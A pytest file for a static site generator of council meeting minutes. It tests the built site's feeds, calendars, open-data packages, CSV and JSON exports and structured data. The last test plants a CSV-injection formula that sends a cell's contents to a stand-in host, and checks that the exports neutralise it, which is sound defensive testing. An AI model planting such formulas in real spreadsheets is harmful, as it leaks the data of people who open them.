"""Feeds, calendars and open data of the built example site, read back with the libraries
their users' tools use."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from zoneinfo import ZoneInfo

import feedparser
import icalendar
import jsonschema
import pytest
from frictionless import Package

from minutebook.opendata import recommendations_schema
from tests.conftest import MINIMAL, ROOT, run_cli

BASE = "https://minutebook.example.org/"


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("opendata") / "public"
    result = run_cli("build", "--output", str(out), "--as-of", "2026-11-23T12:00", "--no-search")
    assert result.code == 0, result.stderr
    return out


def test_open_data_site_feed_is_valid_atom_with_stable_ids_and_dates(built):
    feed = feedparser.parse((built / "feed.xml").read_bytes())
    assert not feed.bozo, feed.get("bozo_exception")
    assert feed.version == "atom10"
    assert feed.feed.id.startswith("tag:minutebook.example.org,2000:")
    assert {link.rel for link in feed.feed.links} == {"alternate", "self"}
    ids = [entry.id for entry in feed.entries]
    assert len(ids) == len(set(ids)) > 20
    for entry in feed.entries:
        assert entry.updated_parsed and entry.link.startswith(BASE)
    assert feed.feed.updated == max(entry.updated for entry in feed.entries)
    titles = [entry.title for entry in feed.entries]
    assert "Minutes: Overview and Scrutiny Management Board, 12 December 2014" in titles


def test_open_data_one_recommendation_can_be_followed(built):
    feed = feedparser.parse((built / "reviews/supporting-local-economy/recommendations/12/feed.xml").read_bytes())
    assert [e.title for e in feed.entries] == [
        "Recommendation 12 of Scrutiny Review - Supporting the Local Economy: partially agreed"
    ]
    page = (built / "reviews/supporting-local-economy/recommendations/12/index.html").read_text()
    assert 'type="application/atom+xml"' in page and "recommendations/12/feed.xml" in page


def test_open_data_feeds_are_reproducible(built, tmp_path):
    again = tmp_path / "again"
    assert run_cli("build", "--output", str(again), "--as-of", "2026-11-23T12:00", "--no-search").code == 0
    assert (again / "feed.xml").read_bytes() == (built / "feed.xml").read_bytes()


def test_open_data_calendars_load_back_with_local_times_either_side_of_the_clock_change(built, tmp_path):
    london = ZoneInfo("Europe/London")
    committee = icalendar.Calendar.from_ical((built / "committees/ilsc/meetings.ics").read_bytes())
    starts = {str(e["uid"]): e.decoded("dtstart") for e in committee.walk("VEVENT")}
    assert starts["ilsc-2016-11-02@minutebook.example.org"] == dt.datetime(2016, 11, 2, 13, 30, tzinfo=london)
    assert starts["ilsc-2016-11-02@minutebook.example.org"].utcoffset() == dt.timedelta(0)  # GMT after October
    # A meeting in summer time, on the minimal site: 13:30 BST is 12:30 UTC.
    site = tmp_path / "site"
    (site / "meetings").mkdir(parents=True)
    for part in ("site.yaml", "committees", "people"):
        src = MINIMAL / part
        (site / part).write_bytes(src.read_bytes()) if src.is_file() else __import__("shutil").copytree(
            src, site / part
        )
    (site / "meetings/scrutiny-2015-07-10.yaml").write_text(
        'committee: scrutiny\ndate: 2015-07-10\nstart_time: "13:30"\nstatus: cancelled\nvenue: Town Hall\n'
    )
    out = tmp_path / "out"
    assert (
        run_cli("build", "--content", str(site), "--output", str(out), "--no-search", "--as-of", "2015-06-01").code == 0
    )
    (event,) = icalendar.Calendar.from_ical((out / "meetings/meetings.ics").read_bytes()).walk("VEVENT")
    start = event.decoded("dtstart")
    assert start.astimezone(dt.UTC) == dt.datetime(2015, 7, 10, 12, 30, tzinfo=dt.UTC)
    assert str(event["status"]) == "CANCELLED" and str(event["location"]) == "Town Hall"
    assert str(event["url"]) == "https://example.org/council/meetings/scrutiny-2015-07-10/"


def test_open_data_package_validates_with_frictionless(built):
    report = Package(str(built / "data/datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]
    package = json.loads((built / "data/datapackage.json").read_text())
    assert package["licenses"][0]["title"] == "Open Government Licence v3.0"
    assert package["created"] == "2026-11-23T00:00:00Z"


def test_open_data_one_row_per_recommendation_filled_as_on_the_site(built):
    rows = list(csv.DictReader(io.StringIO((built / "data/recommendations.csv").read_text())))
    pages = sorted((built / "reviews").glob("*/recommendations/*/index.html"))
    assert len(rows) == len(pages) == 39
    row = next(r for r in rows if r["review"] == "urinary-incontinence" and r["id"] == "1")
    assert row["officers"] == "Dave Whittle"
    assert row["action_by"] == "2015-01" and row["status"] == "not started" and row["overdue"] == "true"
    assert row["decision"] == "not stated"
    assert "toilet facilities provided by SYPTE at its Interchanges" in row["response"]
    assert row["url"] == BASE + "reviews/urinary-incontinence/recommendations/1/"
    page = (built / "reviews/urinary-incontinence/recommendations/1/index.html").read_text()
    assert "Dave Whittle" in page and "January 2015" in page and "Not stated" in page


def test_open_data_recommendations_json_follows_its_schema(built):
    schema = json.loads((ROOT / "docs/schemas/recommendations.schema.json").read_text())
    assert schema == json.loads(recommendations_schema()), "run the schema export again: the fields changed"
    jsonschema.validate(json.loads((built / "data/recommendations.json").read_text()), schema)


def test_open_data_popolo_and_ocd(built):
    popolo = json.loads((built / "data/popolo.json").read_text())
    assert {"persons", "organizations", "memberships"} <= set(popolo)
    assert {
        "person_id": "cllr-clark",
        "organization_id": "ilsc",
        "role": "chair",
        "start_date": None,
        "end_date": None,
    } in popolo["memberships"]
    events = json.loads((built / "data/ocd-events.json").read_text())
    meeting = next(e for e in events if e["id"] == "osmb-2015-01-23")
    assert meeting["start_date"] == "2015-01-23T09:00:00" and meeting["timezone"] == "Europe/London"
    assert meeting["agenda"][6]["description"] == "Scrutiny of Rotherham's Plans to address Child Sexual Exploitation"


def test_open_data_structured_data_sitemap_and_robots(built):
    page = (built / "meetings/osmb-2015-01-23/index.html").read_text()
    data = json.loads(page.split('<script type="application/ld+json">')[1].split("</script>")[0])
    kinds = [item["@type"] for item in data["@graph"]]
    assert kinds == ["BreadcrumbList", "Event"]
    event = data["@graph"][1]
    assert event["startDate"] == "2015-01-23T09:00:00+00:00"
    assert '<meta property="og:title" content="Overview and Scrutiny Management Board, 23 January 2015">' in page
    sitemap = (built / "sitemap.xml").read_text()
    assert f"<loc>{BASE}meetings/osmb-2015-01-23/</loc>" in sitemap and "404" not in sitemap
    assert (built / "robots.txt").read_text().endswith(f"Sitemap: {BASE}sitemap.xml\n")


def test_open_data_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(site):
    # OWASP "CSV Injection": a spreadsheet runs a cell starting = + - @ or a tab as a formula.
    formula = '=HYPERLINK("https://example.com/?"&A1,"Click")'
    person = site.content / "people" / "cllr-brown.yaml"
    person.write_text(f"name: '{formula}'\nkind: councillor\n")  # no honorific: the name starts the cell
    result = site.run("build", "--no-search", "--as-of", "2015-06-01")
    assert result.code == 0, result.stderr
    public = site.root / "public"
    people = list(csv.DictReader(io.StringIO((public / "data" / "people.csv").read_text())))
    assert "'" + formula in [row["name"] for row in people]
    cells = [
        cell for path in public.rglob("*.csv") for row in csv.reader(io.StringIO(path.read_text())) for cell in row
    ]
    assert cells.count("'" + formula) >= 2  # the people dataset and the committee's members table
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert any(person["name"] == formula for person in json.loads((public / "data" / "people.json").read_text()))
